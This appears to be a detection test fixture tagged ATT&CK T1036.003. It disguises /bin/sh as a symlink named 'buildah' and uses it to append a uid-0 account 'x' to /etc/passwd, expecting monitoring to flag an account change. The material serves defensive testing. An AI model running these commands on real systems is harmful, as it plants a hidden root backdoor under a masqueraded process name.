# title: the parent is a link named buildah, and an account is added
# technique: T1036.003
# expects: account-changed
mkdir /tmp/a; ln -s /bin/sh /tmp/a/buildah
/tmp/a/buildah -c 'sh -c "echo x:x:0:0::/:/bin/sh >>/etc/passwd"; true'
